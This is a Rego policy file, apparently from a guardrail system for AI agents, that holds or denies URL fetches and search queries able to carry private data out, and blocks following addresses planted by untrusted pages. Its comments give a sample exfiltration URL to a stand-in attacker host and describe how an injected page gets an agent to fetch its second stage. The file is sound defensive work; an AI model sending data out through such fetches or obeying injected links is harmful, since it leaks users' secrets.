# METADATA
# title: Reads that go somewhere
# description: >-
#   A tool that fetches a URL or asks a search engine is a read by its effect, and can carry data out
#   all the same: its manifest declares the URL or query under `sinks`.
# custom:
#   applies_to:
#     effects: [read]
#     phases: [call, resume]
#   settings:
#     fetches:
#       next: hold
#     labels:
#       private: [confidential, pii, secret]
package policies.fetches

import data.countersign.lib.approvals
import data.countersign.lib.args
import data.countersign.lib.labels
import data.countersign.lib.settings
import data.countersign.lib.sinks

# METADATA
# title: A read that could carry data out
# description: >-
#   A URL or query that nobody trusted has named, once the run has read private data
#   (`data.settings.labels.private`).
# scope: rule
# custom:
#   rationale: >-
#     Fetching `https://attacker.example/?q=<secret>` is a read by its effect and a message by its
#     use. Before the run has read anything private, there is nothing to carry.
#   owasp: [ASI02, LLM02]
hold contains {
	"code": "read_may_carry_data",
	"message": "the run has read private data, and nobody trusted has named this address",
	"approval": approvals.standard,
} if {
	count(input.resource.sinks) > 0
	input.resource.effect == "read"
	labels.private_read
	count(sinks.classes & {"unseen", "untrusted"}) > 0
}

# METADATA
# title: The next page is not chosen by this one
# description: >-
#   An address that only strangers have named, once the run has fetched something with the same tool.
#   The first one goes: a link in a message is what people ask about. `next`: `hold` or `off`, for
#   agents whose work is to follow links. Addresses of a search tool whose results are `trusted` in
#   its manifest are named by it.
# scope: rule
# custom:
#   rationale: >-
#     A page that sends the agent on to another is how an injection gets its second part, and how
#     its author learns that it works.
#   owasp: [ASI01, LLM01]
hold contains {
	"code": "address_out_of_a_page",
	"message": "an address that only strangers have named, after a page was fetched",
	"approval": approvals.standard,
} if {
	count(input.resource.sinks) > 0
	input.resource.effect == "read"
	input.context.run.counts[input.resource.id] > 0
	leads_somewhere
	"untrusted" in sinks.classes
	settings.fetches_next("hold") != "off"
}

# A query made of words that stood somewhere leads nowhere.
leads_somewhere if {
	some pointer in input.resource.sinks
	input.context.run.provenance[pointer] == "untrusted" # first: it costs little
	not is_query(pointer)
}

# Texts, or a number. Of anything else nobody knows where it leads.
is_query(pointer) if {
	values := args.strings(pointer)
	every value in values { not is_address(value) }
}

is_query(pointer) if args.number(pointer)

# A scheme or two slashes lead somewhere whatever follows: there are hosts without a dot. Else there
# is a dot and no space, but for those around it, which programs take off.
is_address(value) if regex.match(`//|^[ \t\r\n]*([Hh][Tt][Tt][Pp][Ss]?|[Ww][Ss][Ss]?|[Ff][Tt][Pp]):|^[^ ]*[.。．｡][^ ]*$`, trim(value, " "))

# METADATA
# title: Secrets stay, also when reading
# description: >-
#   Once the run has read what is labelled `secret`, nothing goes to a recipient that the launcher
#   has not named and that is not internal. `secret`: `deny` or `off`.
# scope: rule
# custom:
#   rationale: Credentials and keys have no recipient that a lookup could make right.
#   owasp: [ASI03, LLM02]
deny contains {
	"code": "secret_would_leave",
	"message": "the run has read secrets, and the launcher has not named this recipient",
} if {
	count(input.resource.sinks) > 0
	input.resource.effect == "read"
	"secret" in input.context.run.labels
	input.phase == "call"
	count(sinks.classes - {"allowed", "internal"}) > 0
	settings.egress_secret("deny") != "off"
}
